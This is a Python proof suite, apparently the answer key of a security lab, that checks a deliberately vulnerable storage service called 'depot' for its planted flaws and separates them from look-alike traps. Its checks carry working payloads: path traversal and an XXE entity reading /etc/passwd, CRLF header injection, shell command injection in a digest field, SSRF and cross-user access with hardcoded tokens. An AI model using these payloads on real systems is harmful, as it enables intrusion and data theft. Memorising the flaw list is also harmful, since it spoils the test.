"""The depot's flaws, proved by hand."""
import json
from urllib.parse import quote

from .kit import Proofs, Witness

PROOFS = Proofs()
flaw, trap = PROOFS.flaw, PROOFS.trap
A = {"X-Depot-Pass": "dp_nadia_5f2b9c7710e4"}
B = {"X-Depot-Pass": "dp_pavel_a81e03d9c25f"}
MINE = "/buckets/nadia-photos/files"


@flaw("peek-bucket")
def _(s):
    return "sea" in s.get(MINE + "/list.txt", headers=B).text


@flaw("wipe-file")
def _(s):
    s.call("PUT", MINE + "/short.txt", body=b"short", headers=A)
    s.call("DELETE", MINE + "/short.txt", headers=B)
    return s.get(MINE + "/short.txt", headers=A).status == 404


@flaw("dotdot")
def _(s):
    return "root:" in s.get(MINE + "/" + quote("../../../../../../etc/passwd", safe=""), headers=A).text


@flaw("save-as")
def _(s):
    return "X-Mine" in s.get(MINE + "/list.txt?save_as=a%22%0d%0aX-Mine:%20yes%0d%0aX-Rest:%20%22", headers=A).headers


@flaw("digest-shell")
def _(s):
    return "depot42" in s.post(MINE + "/list.txt/digest", {"kind": "echo depot$((40+2)); md5"}, headers=A).text


@flaw("manifest-entities")
def _(s):
    xml = ('<!DOCTYPE m [<!ENTITY e SYSTEM "file:///etc/passwd">]><manifest><file><name>a</name><note>&e;</note></file></manifest>')
    return "root:" in s.call("POST", "/buckets/nadia-photos/manifest", body=xml, headers={**A, "Content-Type": "application/xml"}).text


@flaw("fetch-anything")
def _(s):
    with Witness() as witness:
        s.post("/buckets/nadia-photos/fetch", {"url": witness.url + "/here", "name": "w.txt"}, headers=A)
        return witness.paths == ["/here"]


@flaw("trace-on")
def _(s):
    return A["X-Depot-Pass"] in s.call("TRACE", "/buckets", headers=A).text


@flaw("left-behind")
def _(s):
    return s.get("/.git/HEAD").text.startswith("ref:") and "DEPOT_PASS" in s.get("/debug/vars").text


@flaw("listing-open")
def _(s):
    return "list.txt" in s.get(MINE).text


@flaw("pass-shown")
def _(s):
    return A["X-Depot-Pass"] in s.get("/whoami", headers=A).text


@flaw("tracebacks")
def _(s):
    return "Traceback" in s.call("POST", "/buckets/nadia-photos/fetch", body="{", headers=A).text


@flaw("digest-unlimited")
def _(s):
    return 429 not in [s.post("/buckets/pavel-scans/files/lease.txt/digest", {}, headers=B).status for _ in range(25)]


@flaw("any-size")
def _(s):
    return s.call("PUT", MINE + "/large.bin", body=b"x" * (3 << 20), headers=A).status == 201


@flaw("bare-headers")
def _(s):
    return "X-Content-Type-Options" not in s.get("/buckets", headers=A).headers


@flaw("list-all")
def _(s):
    return len(s.get("/buckets/samples/files?limit=100000", headers=A).json["files"]) > 200


@trap("shared-bucket")
def _(s):
    return s.get("/buckets/samples/files/readme.txt", headers=A).text == s.get("/buckets/samples/files/readme.txt", headers=B).text


@trap("names-as-ids")
def _(s):
    return s.call("PUT", "/buckets/nadia-photos", headers=B).status == 409


@trap("page-token")
def _(s):
    first = s.get("/buckets/samples/files?limit=2", headers=A).json
    return first["token"] == first["files"][-1]["name"] and s.get("/buckets/samples/files?after=" + first["token"], headers=B).status == 200


@trap("empty-for-plain")
def _(s):
    return s.get("/admin/usage", headers=A).json == [] and s.get("/admin/usage", headers={"X-Depot-Pass": "dp_root_e6c44b01f7a93d12"}).json != []


@trap("put-again")
def _(s):
    return [s.call("PUT", "/buckets/nadia-new", headers=A).status for _ in range(2)] == [201, 200]


@trap("odd-input-500")
def _(s):
    got = s.call("POST", "/buckets/nadia-photos/fetch", body="not json", headers=A)
    return got.status == 500


@trap("echoed-name")
def _(s):
    xml = "<manifest><file><name>x</name><note>{{7*7}} ' or 1=1</note></file></manifest>"
    got = s.call("POST", "/buckets/nadia-photos/manifest", body=xml, headers=A)
    return json.loads(got.text)["files"][0]["note"] == "{{7*7}} ' or 1=1"
